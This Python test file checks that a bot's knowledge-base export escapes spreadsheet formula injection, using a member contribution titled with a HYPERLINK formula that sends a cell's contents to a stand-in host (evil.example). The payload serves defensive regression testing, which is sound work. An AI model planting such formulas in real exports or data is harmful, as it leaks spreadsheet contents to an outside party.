"""Issue #23 finding 5: formula injection in ``kb export``: a member's contribution titled
``=HYPERLINK(...)`` became a live formula in the XLSX and an unescaped CSV cell."""

from __future__ import annotations

import csv
import io

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from bot.core.cells import FORMULA_START, cell, csv_text, escape, unescape, xlsx_bytes
from community.kb_io import export_items, export_xlsx, import_rows, parse_file
from community.models import KnowledgeItem
from tests.community_helpers import chat

EVIL = '=HYPERLINK("http://evil.example/?leak="&C2,"Open")'


async def test_member_contribution_exports_as_inert_text(client, tmp_path) -> None:
    await chat(client, "mallory", text="/contribute")
    await chat(client, "mallory", text=f"{EVIL}\n-1+2 is the answer @everyone")
    item = await KnowledgeItem.get(category="contribution")
    assert item.title == EVIL

    text = await export_items("csv")
    rows = list(csv.reader(io.StringIO(text)))
    header, row = rows[0], next(r for r in rows if r[0] == item.key)
    title, answer = row[header.index("title")], row[header.index("answer")]
    assert title == "'" + EVIL and answer.startswith("'-1+2")
    assert not any(c.startswith(FORMULA_START) for r in rows for c in r if not _number(c))

    wb = openpyxl.load_workbook(io.BytesIO(await export_xlsx()))
    ws = wb.active
    cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in cells)  # no "f" (formula) cell anywhere
    evil_cell = next(c for c in cells if c.value == EVIL)
    assert evil_cell.data_type == "s" and evil_cell.quotePrefix

    # the export reads back as the same data
    path = tmp_path / "kb.csv"
    path.write_text(text, encoding="utf-8")
    parsed = [r for _, r in parse_file(path) if not isinstance(r, str)]
    back = next(r for r in parsed if r.key == item.key)
    assert back.title == EVIL and back.answer.startswith("-1+2")
    await import_rows(parse_file(path))
    assert (await KnowledgeItem.get(key=item.key)).title == EVIL


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@given(
    st.text(max_size=40)
    | st.sampled_from(
        ["=1+1", "+1", "-1", "-1+1", "@SUM(A1)", "\t=1", " =1", "'=1", "''=1", "＝1", "-nan", "1e5", "-", "'", "''"]
    )
)
def test_escape_is_exact_and_never_leaves_a_formula(text: str) -> None:
    out = escape(text)
    assert unescape(out) == text
    assert not (out.lstrip(" ").startswith(FORMULA_START) and not _number(out))


def test_dashboard_and_export_share_one_helper() -> None:
    from bot.web import csvexport

    assert csvexport.cell is cell and csvexport.csv_text is csv_text
    assert cell(0.5) == "0.5000" and cell(None) == "" and cell(-3) == "-3" and cell("=1") == "'=1"
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([["=1+1", 3, None, "ok"]])))
    a1, b1 = wb.active["A1"], wb.active["B1"]
    assert a1.value == "=1+1" and a1.data_type == "s" and b1.value == 3
